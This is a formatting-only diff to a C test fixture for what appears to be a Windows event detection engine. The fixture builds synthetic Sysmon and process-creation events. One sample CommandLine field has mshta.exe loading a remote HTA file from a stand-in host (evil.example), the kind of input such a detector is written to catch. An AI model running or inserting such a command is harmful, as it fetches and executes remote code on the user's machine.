@@ -34,7 +34,8 @@ static void make_sysmon(sk_event *ev)
     add_data(ev, "ProcessGuid", "{5770385f-c22a-5e1c-0000-00107f1e0c00}");
     add_data(ev, "ProcessId", "4242");
     add_data(ev, "Image", "C:\\Windows\\System32\\mshta.exe");
-    add_data(ev, "CommandLine",
+    add_data(ev,
+             "CommandLine",
              "mshta.exe http://evil.example/a.hta -Embedding /c \xe2\x80\x93x "
              "aGVsbG8gd29ybGQ= 10.1.2.3");
     add_data(ev, "CurrentDirectory", "C:\\Users\\bob\\AppData\\Local\\Temp\\");
@@ -71,8 +72,8 @@ static void make_4688(sk_event *ev)
 }
 
 // Touches every string a hit hands over (they must be valid during the callback).
-static void on_hit(
-        void *ctx, const sk_rule *rule, const sk_event *ev, const sk_match_item *items, size_t n)
+static void
+on_hit(void *ctx, const sk_rule *rule, const sk_event *ev, const sk_match_item *items, size_t n)
 {
     size_t *sum = ctx;
     *sum += strlen(sk_rule_title(rule)) + sk_event_nfields(ev);
